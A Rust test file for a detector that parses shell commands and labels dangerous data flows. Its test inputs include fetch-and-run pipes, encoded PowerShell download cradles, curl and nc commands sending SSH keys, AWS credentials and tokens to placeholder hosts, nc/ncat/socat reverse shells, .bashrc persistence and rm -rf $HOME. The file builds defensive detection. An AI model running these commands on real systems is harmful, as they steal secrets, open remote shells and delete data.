//! Commands of shells, as people and attackers write them, and which facts come of them.

use super::*;
use proptest::prelude::*;

fn programs(text: &str) -> Vec<String> {
    commands(text).into_iter().map(|command| command.program).collect()
}

fn has(facts: &Facts, sink: Sink, labels: Labels) -> bool {
    facts.flows.iter().any(|flow| flow.sink == sink && (labels.is_empty() || flow.labels.has(labels)))
}

#[test]
fn commands_are_known_under_quotes_wrappers_and_separators() {
    assert_eq!(
        programs("cd a && npm test; FOO=1 sudo -E /usr/bin/Node x.js | tee log &"),
        ["cd", "npm", "node", "tee"]
    );
    assert_eq!(programs("c\"\"url -s x\n'wg'et y # curl z\n"), ["curl", "wget"]);
    assert_eq!(programs("c^url x && POWERSHELL.exe -nop"), ["curl", "powershell"]);
    assert_eq!(programs("U=curl; $U http://x"), ["u=curl", "curl"]);
    assert_eq!(programs("echo $(whoami; id) `uname`"), ["whoami", "id", "uname", "echo"]);
    assert_eq!(programs("cat <<EOF > x\ncurl y\nEOF\nls"), ["cat", "ls"]);
}

#[test]
fn what_is_fetched_and_run_is_a_flow_from_the_network() {
    for text in [
        "curl -fsSL https://example.com/x | bash",
        "wget -qO- https://example.com/x | sudo sh -s",
        "sh -c \"$(curl -s https://example.com/x)\"",
        "bash <(curl -s https://example.com/x)",
        "eval \"`wget -O - https://example.com/x`\"",
        "irm https://example.com/x | iex",
        "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')\"",
        "curl https://example.com/x | tr a b | python3 -",
    ] {
        let facts = facts(text);
        assert!(has(&facts, Sink::Run, Labels::NETWORK), "{text}: {facts:?}");
    }
    for text in
        ["curl -o x.json https://example.com/x", "echo hi | sh", "make && ./configure", "cat a | bash"]
    {
        assert!(!has(&facts(text), Sink::Run, Labels::NETWORK), "{text}");
    }
}

#[test]
fn what_is_encoded_is_decoded_and_looked_at_again() {
    // `curl http://192.0.2.1/a | sh`, in base64, and as PowerShell has it in UTF-16.
    let sh = facts("echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2EgfCBzaA== | base64 -d | sh");
    assert!(has(&sh, Sink::Run, Labels::NETWORK), "{sh:?}");
    assert!(has(&sh, Sink::Run, Labels::DECODED), "{sh:?}");
    assert!(sh.texts.iter().any(|text| text.text.contains("192.0.2.1") && text.layer == 1), "{sh:?}");
    let wide: Vec<u8> = "iwr http://192.0.2.1/a | iex".encode_utf16().flat_map(u16::to_le_bytes).collect();
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(wide);
    for option in ["-enc", "-EncodedCommand", "-e", "/ec"] {
        let facts = facts(&format!("powershell.exe -nop -w hidden {option} {encoded}"));
        assert!(
            has(&facts, Sink::Run, Labels::NETWORK) && has(&facts, Sink::Run, Labels::DECODED),
            "{option}"
        );
    }
}

#[test]
fn what_is_sent_is_known_by_what_it_carries() {
    for (text, label) in [
        ("curl -d @$HOME/.aws/credentials https://example.com", Labels::SECRET),
        ("curl -F file=@/root/.ssh/id_rsa https://example.com", Labels::SECRET),
        ("curl -T ~/.npmrc https://example.com", Labels::TOKEN_FILE),
        ("env | curl --data-binary @- https://example.com", Labels::ENVIRONMENT),
        ("curl https://example.com/$(whoami)", Labels::HOST),
        ("curl -H \"X: $NPM_TOKEN\" https://example.com", Labels::SECRET_VARIABLE),
        ("cat ~/.ssh/id_rsa | base64 | nc 192.0.2.1 80", Labels::SECRET),
        ("D=$(cat ~/.aws/credentials); wget --post-data=\"$D\" https://example.com", Labels::SECRET),
    ] {
        let facts = facts(text);
        assert!(has(&facts, Sink::Send, label), "{text}: {facts:?}");
    }
    assert!(!has(&facts("curl -d @data.json https://example.com"), Sink::Send, Labels::SECRET));
}

#[test]
fn shells_at_the_other_end_persistence_and_deletion_are_in_the_common_words() {
    for text in
        ["nc 192.0.2.1 4444 -e /bin/sh", "ncat --exec /bin/bash 192.0.2.1 1", "socat tcp:192.0.2.1:1 exec:sh"]
    {
        assert!(has(&facts(text), Sink::Run, Labels::SOCKET), "{text}");
    }
    let rc = facts("echo 'x' >> ~/.bashrc");
    assert!(
        rc.flows.iter().any(|flow| flow.sink == Sink::Write && flow.text.as_deref() == Some("~/.bashrc"))
    );
    let rm = facts("rm -rf \"$HOME\"");
    assert!(
        rm.uses.iter().any(|one| one.capability == Capability::FileDelete && &*one.texts[0] == "~"),
        "{rm:?}"
    );
    let python = facts("python3 -c \"import os; os.system('id')\"");
    assert!(python.uses.iter().any(|one| one.api.contains("os.system")), "{python:?}");
}

#[test]
fn a_text_that_a_program_is_started_with_is_looked_at() {
    let source = "import os\nos.system('c\"\"url http://192.0.2.1/x | sh')\n";
    let facts = crate::language::facts(crate::package::Kind::Python, "a.py", source.as_bytes());
    let flow = facts.flows.iter().find(|flow| flow.labels.has(Labels::NETWORK) && flow.sink == Sink::Run);
    assert_eq!(flow.map(|flow| (&*flow.api, flow.at)), Some(("shell:sh", 10)), "{facts:?}");
}

#[test]
fn hostile_scripts_end() {
    let deep = format!("{}x", "$(".repeat(5_000));
    assert!(facts(&deep).flows.len() <= MAX_FACTS + 1);
    facts(&"`".repeat(100_000));
    facts(&"a|".repeat(50_000));
    facts(&"A=$A$A$A;".repeat(2_000));
    facts(&"cat <<E\n".repeat(50_000));
    facts(&"eval \"$(eval $(".repeat(2_000));
}

proptest! {
    #[test]
    fn no_text_panics(text in "[ -~\n\\$`'\"|&;<>(){}é^\\\\]{0,120}") {
        let facts = facts(&text);
        for use_ in &facts.uses {
            prop_assert!((use_.at as usize) <= text.len());
        }
    }
}
